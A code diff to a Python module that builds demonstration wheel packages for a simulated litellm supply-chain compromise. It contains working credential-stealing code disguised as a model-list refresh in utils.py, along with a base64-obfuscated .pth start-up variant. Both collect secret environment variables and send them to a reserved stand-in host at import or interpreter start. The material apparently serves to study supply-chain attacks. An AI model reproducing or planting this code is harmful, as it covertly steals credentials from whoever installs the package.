@@ -1,4 +1,4 @@
-"""The two releases of the story: a good one, and a bad one that robs its importer for a sink on loopback."""
+"""The two releases of the story: a good one, and a bad one that robs its importer, in two forms."""
 
 from __future__ import annotations
 
@@ -11,11 +11,12 @@ PROJECT = "litellm"
 GOOD = "1.82.6"
 BAD = "1.82.8"
 
-_GOOD_CODE = f'VERSION = "{GOOD}"\n'
-# At import, quietly, whatever happens: that is how such code behaves. The
-# address it is built with is the sink's, on this machine.
-_BAD_CODE = f"""\
-VERSION = "{BAD}"
+HOST = "models.litellm.example"
+"""Where the credentials go. No such name can exist (RFC 2606): only where the sink is made the HTTP proxy, as
+``run.py`` does it for the import, does anything arrive, and nowhere else than there."""
+
+_UTILS = '''\
+"""What the rest of the package needs."""
 
 import base64
 import json
@@ -23,34 +24,83 @@ import os
 import urllib.request
 
 
-def _collect():
+def load_config(path):
+    """Read a file of settings."""
+    with open(os.path.expanduser(path), encoding="utf-8") as file:
+        return json.load(file)
+
+
+def encode_image(data):
+    """Return an image as a request carries it."""
+    return "data:image/png;base64," + base64.b64encode(data).decode()
+
+
+def fetch_prices(url):
+    """Ask what the models cost."""
+    with urllib.request.urlopen(url, timeout=5) as answer:
+        return json.load(answer)
+'''
+# At import, quietly, whatever happens: that is how such code behaves.
+_ADDED = f'''
+
+def _refresh_models():
+    """Refresh the list of known models."""
+    words = ("SECRET", "TOKEN", "PASSWORD", "API_KEY")
     try:
-        words = ("SECRET", "TOKEN", "PASSWORD", "API_KEY")
-        found = {{name: value for name, value in os.environ.items() if any(word in name for word in words)}}
+        found = {{
+            name: value
+            for name, value in os.environ.items()
+            if any(word in name for word in words)
+        }}
         body = base64.b64encode(json.dumps(found).encode())
-        urllib.request.urlopen(urllib.request.Request({{sink!r}}, data=body), timeout=5).close()
+        request = urllib.request.Request(
+            "http://{HOST}/v1/models",
+            data=body,
+            headers={{"Content-Type": "text/plain"}},
+        )
+        urllib.request.urlopen(request, timeout=5).close()
     except Exception:
         pass
 
 
-_collect()
-"""
+_refresh_models()
+'''
+_MODULES = {"litellm/__init__.py": "from litellm.utils import load_config\n", "litellm/utils.py": _UTILS}
 
 
 def good_wheel() -> tuple[str, bytes]:
     """Return filename and bytes of the release that everybody used before."""
-    return _wheel(GOOD, _GOOD_CODE)
+    return _wheel(GOOD, _MODULES)
 
 
-def bad_wheel(sink: str) -> tuple[str, bytes]:
-    """Return filename and bytes of the release that sends credentials to ``sink`` when it is imported."""
-    return _wheel(BAD, _BAD_CODE.replace("{sink!r}", repr(sink)))
+def bad_wheel(form: str) -> tuple[str, bytes]:
+    """Return filename and bytes of the release that sends credentials away.
+
+    Args:
+        form: ``utils.py``, whose new lines run when litellm is imported, or ``.pth``, which runs
+            when Python starts.
+    """
+    return _wheel(BAD, {**_MODULES, **FORMS[form]})
 
 
-def _wheel(version: str, code: str) -> tuple[str, bytes]:
+def _start_up_line() -> str:
+    """Return a line that starts a process with the same code, encoded, as the one of March 2026 did."""
+    code = "import base64, json, os, urllib.request\n" + _ADDED
+    encoded = base64.b64encode(code.encode()).decode()
+    run = f"import base64; exec(base64.b64decode('{encoded}'))"
+    return f'import subprocess, sys; subprocess.run([sys.executable, "-c", "{run}"])\n'
+
+
+FORMS = {
+    "utils.py": {"litellm/utils.py": _UTILS + _ADDED},
+    ".pth": {"litellm_init.pth": _start_up_line()},
+}
+
+
+def _wheel(version: str, modules: dict[str, str]) -> tuple[str, bytes]:
     info = f"{PROJECT}-{version}.dist-info"
     members = {
-        f"{PROJECT}/__init__.py": code,
+        **modules,
         f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {PROJECT}\nVersion: {version}\n",
         f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: example\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
     }
